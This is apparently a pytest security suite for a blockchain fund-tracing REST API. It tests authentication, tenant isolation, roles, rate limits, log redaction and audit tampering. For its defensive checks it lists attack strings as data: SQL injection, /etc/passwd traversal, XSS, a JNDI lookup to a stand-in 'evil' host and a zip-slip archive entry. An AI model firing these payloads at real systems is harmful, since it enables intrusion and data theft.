"""Security of the REST API, in process on a real store: every route refuses requests without a valid key
(401) and leaks nothing; organisations do not see each other's cases, notes, snapshots or private labels
(404, existence itself confidential; 403 for a read-only share); roles are enforced on every route;
injection strings in every path, query and body parameter get a 4xx in the one error shape and leave the
store as it was; oversized bodies (413), malformed JSON (400) and malformed addresses (422); rate
limits (429 + Retry-After); keys never reach the logs; a tampered audit log and a tampered package are
detected."""

from __future__ import annotations

import io
import json
import logging
import secrets
import zipfile
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import pytest
from fastapi.testclient import TestClient

from fundtrail.api import ServiceSettings, create_app
from fundtrail.api.logs import redact
from tests.test_api import Env, assert_error, make_env
from tests.test_screening import CHAIN, addr

INJECTIONS = (
    "'; DROP TABLE labels; --",
    "../../etc/passwd",
    "1 OR 1=1",
    '" OR ""="',
    "' UNION SELECT secret_sha256 FROM api_keys --",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil/x}",
    "%00",
    "A" * 3000,
)
FREE_TEXT = {  # body and query fields whose value is content, not an identifier: stored or matched verbatim
    ("POST", "/v1/cases", "title"),
    ("POST", "/v1/cases", "description"),
    ("POST", "/v1/cases/{case_id}/notes", "text"),
    ("POST", "/v1/cases/{case_id}/subjects", "note"),
    ("POST", "/v1/labels", "label"),
    ("PATCH", "/v1/labels/{label_id}", "label"),
    ("POST", "/v1/private-labels", "label"),
    ("PATCH", "/v1/private-labels/{label_id}", "label"),
    ("POST", "/v1/cases/{case_id}/snapshots/screen", "title"),
    ("POST", "/v1/cases/{case_id}/snapshots/trace", "title"),
    ("GET", "/v1/labels", "source"),
    ("GET", "/v1/audit", "target"),
}


@pytest.fixture(scope="module")
def env(tmp_path_factory: pytest.TempPathFactory) -> Env:
    return make_env(tmp_path_factory.mktemp("sec") / "sec.duckdb")


@pytest.fixture(scope="module")
def client(env: Env) -> Iterator[TestClient]:
    with TestClient(create_app(env.path, ServiceSettings(max_body_bytes=32 * 1024))) as c:
        yield c


@pytest.fixture(scope="module")
def ids(client: TestClient, env: Env) -> dict[str, Any]:
    """A case of agency with a subject, a note with an attachment, a snapshot; a label; a private label."""
    ann = env.h("ann")
    case = client.post("/v1/cases", json={"title": "Secret operation Nightjar"}, headers=ann).json()
    cid = case["case_id"]
    client.post(
        f"/v1/cases/{cid}/subjects",
        json={"kind": "address", "chain": CHAIN, "value": addr("dave")},
        headers=ann,
    )
    note = {"text": "informant says", "attachments": [{"name": "a.txt", "content_base64": "c2VjcmV0"}]}
    att = client.post(f"/v1/cases/{cid}/notes", json=note, headers=ann).json()["attachments"][0]
    snap = client.post(
        f"/v1/cases/{cid}/snapshots/screen", json={"chain": CHAIN, "items": [addr("dave")]}, headers=ann
    ).json()
    pl = client.post(
        "/v1/private-labels",
        json={
            "chain": CHAIN,
            "address": addr("dave"),
            "category": "darknet_market",
            "label": "Nightjar lead",
        },
        headers=ann,
    ).json()
    label_id = client.get("/v1/labels", params={"limit": 1}, headers=ann).json()["items"][0]["label_id"]
    return {
        "case_id": cid,
        "attachment_id": att["attachment_id"],
        "snapshot_id": snap["snapshot_id"],
        "private_label_id": pl["label_id"],
        "label_id": label_id,
    }


def _routes(client: TestClient) -> list[tuple[str, str, dict[str, list[str]]]]:
    """Every (method, path, {"path": [names], "query": [names]}) under /v1, from the OpenAPI document."""
    app: Any = client.app
    out = []
    for path, methods in app.openapi()["paths"].items():
        if not path.startswith("/v1/") or path == "/v1/health":
            continue
        for method, op in methods.items():
            params: dict[str, list[str]] = {"path": [], "query": []}
            for prm in op.get("parameters", []):
                if prm["in"] in params:
                    params[prm["in"]].append(prm["name"])
            out.append((method.upper(), path, params))
    return sorted(out)


def _url(path: str, env: Env, ids: dict[str, Any], override: dict[str, str] | None = None) -> str:
    values = {
        "chain": CHAIN,
        "ref": "0",
        "txid": env.world.txids["mix"],
        "address": addr("alice"),
        "label_id": str(ids["label_id"]),
        "case_id": str(ids["case_id"]),
        "attachment_id": str(ids["attachment_id"]),
        "snapshot_id": str(ids["snapshot_id"]),
        "org": "exchange",
        "user": "ana",
        "key_id": env.key_ids["cid"],
    }
    if path.startswith("/v1/private-labels/"):
        values["label_id"] = str(ids["private_label_id"])
    values.update(override or {})
    for k, v in values.items():
        path = path.replace("{" + k + "}", quote(v, safe=""))
    return path


def _body(method: str, path: str, env: Env) -> dict[str, Any] | None:
    """A valid body for each route that takes one."""
    seed = f"{env.world.txids['mix']}:0"
    bodies: dict[tuple[str, str], dict[str, Any]] = {
        ("POST", "/v1/screen"): {"chain": CHAIN, "item": addr("alice")},
        ("POST", "/v1/trace"): {"chain": CHAIN, "seed": seed},
        ("POST", "/v1/labels"): {"chain": CHAIN, "address": addr("eve"), "label": "x", "category": "scam"},
        ("PATCH", "/v1/labels/{label_id}"): {"confidence": 10},
        ("POST", "/v1/private-labels"): {
            "chain": CHAIN,
            "address": addr("eve"),
            "category": "scam",
            "label": "x",
        },
        ("PATCH", "/v1/private-labels/{label_id}"): {"label": "y"},
        ("POST", "/v1/cases"): {"title": "t"},
        ("PUT", "/v1/cases/{case_id}/assignee"): {"user": "ana"},
        ("PUT", "/v1/cases/{case_id}/status"): {"status": "on-hold"},
        ("POST", "/v1/cases/{case_id}/subjects"): {"kind": "address", "chain": CHAIN, "value": addr("bob")},
        ("POST", "/v1/cases/{case_id}/notes"): {"text": "n"},
        ("PUT", "/v1/cases/{case_id}/shares/{org}"): {"access": "read"},
        ("POST", "/v1/cases/{case_id}/snapshots/trace"): {"chain": CHAIN, "seed": seed},
        ("POST", "/v1/cases/{case_id}/snapshots/screen"): {"chain": CHAIN, "items": [addr("bob")]},
        ("POST", "/v1/users"): {"name": "zed", "role": "analyst"},
        ("PUT", "/v1/users/{user}/role"): {"role": "analyst"},
        ("POST", "/v1/keys"): {"user": "ana"},
    }
    return bodies.get((method, path))


def _call(
    client: TestClient, method: str, url: str, headers: dict[str, str], body: dict[str, Any] | None
) -> Any:
    if url.endswith("/packages/import"):
        return client.request(
            method, url, content=b"PK", headers={**headers, "Content-Type": "application/zip"}
        )
    return client.request(method, url, json=body, headers=headers)


def _store_state(client: TestClient, env: Env) -> tuple[Any, ...]:
    h = env.h("alan")
    labels = client.get("/v1/labels", params={"limit": 1000}, headers=h).json()
    summary = client.get("/v1/summary", headers=h).json()
    verify = client.get("/v1/audit/verify", headers=h).json()
    assert verify["ok"] is True, verify
    return (labels["total"], [x["label_id"] for x in labels["items"]], summary)


# --- authentication ----------------------------------------------------------------------------------------


def test_every_route_refuses_requests_without_a_valid_key(
    client: TestClient, env: Env, ids: dict[str, Any]
) -> None:
    routes = _routes(client)
    assert len(routes) >= 35
    unknown = f"ft_{secrets.token_hex(8)}_{secrets.token_hex(32)}"
    attempts: list[dict[str, str]] = [
        {},
        {"Authorization": f"Bearer {unknown}"},
        {"X-API-Key": unknown},
        {"Authorization": f"Basic {env.keys['ann']}"},
        {"Authorization": "Bearer "},
        {"X-API-Key": "ft_short"},
        {"Authorization": f"Bearer {env.keys['ann'][:-1]}0"},  # a wrong secret of a real key id
    ]
    for method, path, _ in routes:
        url = _url(path, env, ids)
        for headers in attempts:
            r = _call(client, method, url, headers, _body(method, path, env))
            err = assert_error(r, 401)
            assert r.headers["www-authenticate"] == "Bearer"
            assert "Nightjar" not in r.text and env.keys["ann"] not in r.text, (method, path)
            assert err["code"] == "unauthenticated"


def test_a_revoked_key_is_refused_at_once(client: TestClient, env: Env) -> None:
    k = client.post("/v1/keys", json={"user": "ana", "rate_limit": 10}, headers=env.h("alan")).json()
    h = {"X-API-Key": k["key"]}
    assert client.get("/v1/me", headers=h).status_code == 200
    client.delete(f"/v1/keys/{k['key_id']}", headers=env.h("alan"))
    err = assert_error(client.get("/v1/me", headers=h), 401)
    assert k["key"] not in err["message"] and k["key"].split("_")[2] not in json.dumps(err)


# --- organisations and roles -------------------------------------------------------------------------------


def test_another_organisation_sees_nothing_of_a_case(
    client: TestClient, env: Env, ids: dict[str, Any]
) -> None:
    case_routes = [(m, p) for m, p, _ in _routes(client) if "{case_id}" in p]
    assert len(case_routes) >= 12
    for user in ("bob", "cid", "bea"):
        for method, path in case_routes:
            r = _call(client, method, _url(path, env, ids), env.h(user), _body(method, path, env))
            assert r.status_code in (403, 404), (user, method, path, r.status_code, r.text)
            assert_error(r, r.status_code)
            for secret in ("Nightjar", "informant", addr("dave")):
                assert secret not in r.text, (user, method, path)
            if user != "bea" and r.status_code == 403:  # only a missing role may say 403 here
                assert "role" in r.json()["error"]["message"] or "may not" in r.json()["error"]["message"]
    # a case that exists and one that never did answer alike
    a = client.get(f"/v1/cases/{ids['case_id']}", headers=env.h("bob")).json()["error"]
    b = client.get("/v1/cases/987654", headers=env.h("bob")).json()["error"]
    assert {**a, "message": a["message"].replace(str(ids["case_id"]), "N")} == {
        **b,
        "message": b["message"].replace("987654", "N"),
    }
    listed = client.get("/v1/cases", headers=env.h("bob")).json()
    assert ids["case_id"] not in [c["case_id"] for c in listed["items"]]
    pl = client.get("/v1/private-labels", headers=env.h("bob")).json()
    assert "Nightjar" not in json.dumps(pl)
    assert_error(client.delete(f"/v1/private-labels/{ids['private_label_id']}", headers=env.h("bob")), 404)


def test_roles_are_enforced_on_every_route(client: TestClient, env: Env, ids: dict[str, Any]) -> None:
    allowed = {
        "sam": {("POST", "/v1/screen"), ("GET", "/v1/me")},  # a screening client screens, nothing else
    }
    for method, path, _ in _routes(client):
        r = _call(client, method, _url(path, env, ids), env.h("sam"), _body(method, path, env))
        if (method, path) in allowed["sam"]:
            assert r.status_code == 200, (method, path, r.text)
        else:
            assert_error(r, 403)
    # analysts read and query but do not write; investigators do not manage accounts or read the audit log
    ana, ann = env.h("ana"), env.h("ann")
    assert client.get("/v1/summary", headers=ana).status_code == 200
    assert_error(client.post("/v1/cases", json={"title": "x"}, headers=ana), 403)
    assert_error(client.post("/v1/labels", json=_body("POST", "/v1/labels", env), headers=ana), 403)
    assert_error(client.get("/v1/audit/verify", headers=ann), 403)
    assert_error(client.post("/v1/keys", json={"user": "ann"}, headers=ann), 403)
    # an admin manages its own organisation only
    assert_error(client.put("/v1/users/bob/role", json={"role": "admin"}, headers=env.h("alan")), 404)


# --- injection and malformed input -------------------------------------------------------------------------


def _string_fields(body: dict[str, Any]) -> list[str]:
    return [k for k, v in body.items() if isinstance(v, str)] + [
        k for k, v in body.items() if isinstance(v, list)
    ]


def test_injection_in_every_parameter(client: TestClient, env: Env, ids: dict[str, Any]) -> None:
    before = _store_state(client, env)
    admin_org_user = {
        "/v1/users",
        "/v1/keys",
        "/v1/users/{user}/role",
        "/v1/keys/{key_id}",
        "/v1/audit",
        "/v1/audit/verify",
    }
    checked = 0
    for method, path, route in _routes(client):
        who = env.h("alan") if path in admin_org_user else env.h("ann")
        body = _body(method, path, env)
        params, queries = route["path"], route["query"]
        for bad in INJECTIONS:
            cases: list[tuple[str, str, dict[str, Any] | None, dict[str, str]]] = []
            for name in params:
                cases.append((f"path.{name}", _url(path, env, ids, {name: bad}), body, {}))
            for name in queries:
                cases.append((f"query.{name}", _url(path, env, ids), body, {name: bad}))
            for name in _string_fields(body or {}):
                value = [bad] if isinstance((body or {})[name], list) else bad
                cases.append((f"body.{name}", _url(path, env, ids), {**(body or {}), name: value}, {}))
            for where, url, b, q in cases:
                free = (method, path, where.split(".", 1)[1]) in FREE_TEXT
                if free or (path == "/v1/screen" and where == "body.items"):
                    continue  # content, checked below
                r = client.request(method, url, json=b, params=q, headers=who)
                checked += 1
                assert 400 <= r.status_code < 500, (
                    method,
                    path,
                    where,
                    bad[:30],
                    r.status_code,
                    r.text[:300],
                )
                assert_error(r, r.status_code)
    assert checked > 500
    assert _store_state(client, env) == before
    # free text is content: stored verbatim (parameterised SQL), harmless
    for bad in INJECTIONS[:3]:
        c = client.post("/v1/cases", json={"title": bad}, headers=env.h("ann"))
        assert c.status_code == 201 and c.json()["title"] == bad
        hits = client.get("/v1/labels", params={"source": bad}, headers=env.h("ann")).json()
        assert hits["total"] == 0 and hits["items"] == []
    batch = client.post(
        "/v1/screen", json={"chain": CHAIN, "items": list(INJECTIONS[:-1])}, headers=env.h("sam")
    )
    assert batch.status_code == 200 and batch.json()["errors"] == len(INJECTIONS) - 1
    after = _store_state(client, env)
    assert after[:2] == before[:2] and after[2] == before[2]


def test_oversized_and_malformed_bodies(client: TestClient, env: Env) -> None:
    h = {**env.h("sam"), "Content-Type": "application/json"}
    big = json.dumps({"chain": CHAIN, "items": [addr("alice")] * 2000}).encode()
    assert len(big) > 32 * 1024
    assert_error(client.post("/v1/screen", content=big, headers=h), 413, "body")

    def chunks() -> Iterator[bytes]:  # no Content-Length: counted as it arrives
        for _ in range(10):
            yield b" " * 8192

    assert_error(client.post("/v1/screen", content=chunks(), headers=h), 413, "body")
    # the limit holds before authentication too: nothing is parsed
    assert_error(client.post("/v1/screen", content=big, headers={"Content-Type": "application/json"}), 413)
    for bad in (b"{", b'{"chain": "bitcoin",}', b"\xff\xfe", b'{"item": "a"'):
        assert_error(client.post("/v1/screen", content=bad, headers=h), 400, "body")
    assert_error(client.post("/v1/screen", content=b"null", headers=h), 422)
    assert_error(client.post("/v1/screen", content=b'"string"', headers=h), 422)
    deep = b"[" * 100_00 + b"]" * 100_00
    r = client.post("/v1/screen", content=deep, headers=h)
    assert 400 <= r.status_code < 500
    assert_error(r, r.status_code)


def test_malformed_addresses_name_the_field(client: TestClient, env: Env) -> None:
    bad = ("1BoatSLRHtKNngkdXEeobR76b53LETtpyT", "bcrt1qqqqqqq", "0xdeadbeef", "tb1qxyz", "m" * 199)
    for a in bad:
        assert_error(
            client.post("/v1/screen", json={"chain": CHAIN, "item": a}, headers=env.h("sam")),
            422,
            "body.item",
        )
        assert_error(
            client.get(f"/v1/{CHAIN}/addresses/{quote(a)}", headers=env.h("ana")), 422, "path.address"
        )
        sub = {"kind": "address", "chain": CHAIN, "value": a}
        r = client.post("/v1/cases", json={"title": "t"}, headers=env.h("ann")).json()["case_id"]
        assert_error(
            client.post(f"/v1/cases/{r}/subjects", json=sub, headers=env.h("ann")), 422, "body.value"
        )


# --- rate limits -------------------------------------------------------------------------------------------


def test_rate_limit_answers_429_with_retry_after(client: TestClient, env: Env) -> None:
    k = client.post("/v1/keys", json={"user": "sam", "rate_limit": 3}, headers=env.h("alan")).json()
    h = {"X-API-Key": k["key"]}
    codes = []
    limited = None
    for _ in range(12):
        r = client.post("/v1/screen", json={"chain": CHAIN, "item": addr("alice")}, headers=h)
        codes.append(r.status_code)
        if r.status_code == 429:
            limited = r
    assert codes[:3] == [200, 200, 200] and 429 in codes
    assert limited is not None
    err = assert_error(limited, 429)
    assert err["code"] == "rate_limited"
    assert int(limited.headers["retry-after"]) >= 1
    # other keys are not affected
    assert (
        client.post(
            "/v1/screen", json={"chain": CHAIN, "item": addr("alice")}, headers=env.h("sam")
        ).status_code
        == 200
    )


# --- logs --------------------------------------------------------------------------------------------------


def test_keys_never_reach_the_logs(client: TestClient, env: Env, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    key = env.keys["ana"]
    secret = key.split("_")[2]
    client.get("/v1/me", headers={"Authorization": f"Bearer {key}"})
    client.get("/v1/me", headers={"X-API-Key": key})
    client.get(
        f"/v1/summary?api_key={key}&token={key}", headers=env.h("ana")
    )  # a key where it does not belong
    client.get(f"/v1/{CHAIN}/addresses/{key}", headers=env.h("ana"))
    client.get("/v1/me", headers={"X-API-Key": key[:-4] + "0000"})  # a wrong secret
    logging.getLogger("fundtrail.api").error("oops with %s and Bearer %s", key, key)
    ours = [r for r in caplog.records if r.name.startswith(("fundtrail", "uvicorn"))]
    text = "\n".join(f"{r.name} {r.getMessage()}" for r in ours)
    assert "fundtrail.api.access" in text or "/v1/me" in text  # the access log did run
    assert "/v1/summary" in text and "ft_[redacted]" in text
    assert secret not in text and key not in text
    assert redact(f"Authorization: Bearer {key}") == "Authorization: Bearer [redacted]"


# --- tampering ---------------------------------------------------------------------------------------------


def test_tampered_audit_log_is_detected(tmp_path_factory: pytest.TempPathFactory) -> None:
    env = make_env(tmp_path_factory.mktemp("tamper") / "t.duckdb")
    with TestClient(create_app(env.path)) as client:
        for _ in range(3):
            client.post("/v1/screen", json={"chain": CHAIN, "item": addr("alice")}, headers=env.h("sam"))
        ok = client.get("/v1/audit/verify", headers=env.h("alan")).json()
        assert ok["ok"] is True
        n = ok["entries"]
        con = client.app.state.service.store.con  # type: ignore[attr-defined]
        con.execute("UPDATE audit_log SET target = 'bitcoin-regtest:someone-else' WHERE seq = ?", [n - 1])
        bad = client.get("/v1/audit/verify", headers=env.h("alan")).json()
        assert (bad["ok"], bad["first_bad_seq"], bad["problem"]) == (False, n - 1, "edited")
        con.execute("DELETE FROM audit_log WHERE seq >= ?", [n - 1])
        cut = client.get("/v1/audit/verify", headers=env.h("alan")).json()
        assert cut["ok"] is False and cut["problem"] == "truncated"


def test_tampered_and_zip_slip_packages_are_refused(
    client: TestClient, env: Env, ids: dict[str, Any]
) -> None:
    pkg = client.get(f"/v1/cases/{ids['case_id']}/export", headers=env.h("ann")).content
    src = zipfile.ZipFile(io.BytesIO(pkg))
    zh = {**env.h("bob"), "Content-Type": "application/zip"}

    def rebuilt(change: Any) -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as z:
            for info in src.infolist():
                name, data = change(info.filename, src.read(info))
                if name is not None:
                    z.writestr(name, data)
        return out.getvalue()

    for target in ("case.json", "notes.json", "manifest.json", "manifest.sig"):
        flipped = rebuilt(lambda n, d, t=target: (n, (d[:-2] + bytes([d[-2] ^ 1]) + d[-1:]) if n == t else d))
        err = assert_error(client.post("/v1/packages/import", content=flipped, headers=zh), 422)
        assert target in err["message"] or "manifest" in err["message"], (target, err)
    missing = rebuilt(lambda n, d: (None if n == "subjects.json" else n, d))
    assert (
        "subjects.json"
        in assert_error(client.post("/v1/packages/import", content=missing, headers=zh), 422)["message"]
    )
    slip = rebuilt(lambda n, d: ("../../evil.json" if n == "case.json" else n, d))
    assert (
        "evil" in assert_error(client.post("/v1/packages/import", content=slip, headers=zh), 422)["message"]
    )
    ok = client.post("/v1/packages/import", content=pkg, headers=zh)
    assert ok.status_code == 201, ok.text


def test_a_bug_answers_500_without_details(
    tmp_path_factory: pytest.TempPathFactory, caplog: pytest.LogCaptureFixture
) -> None:
    env = make_env(tmp_path_factory.mktemp("bug") / "b.duckdb")
    app = create_app(env.path)
    leaked = env.keys["ann"]

    async def broken() -> None:  # a route with a bug, whose exception carries a secret
        raise RuntimeError(f"bug while handling {leaked}")

    app.add_api_route("/v1/broken", broken)
    caplog.set_level(logging.INFO)
    with TestClient(app, raise_server_exceptions=False) as client:
        r = client.get("/v1/broken")
    err = assert_error(r, 500)
    assert err["code"] == "internal_error" and "request" in err["message"]
    assert "bug" not in r.text and leaked not in r.text
    ours = [x for x in caplog.records if x.name.startswith(("fundtrail", "uvicorn"))]
    assert any(x.exc_text for x in ours)  # the traceback is logged, redacted
    for x in ours:
        assert leaked not in x.getMessage() and leaked not in (x.exc_text or "")
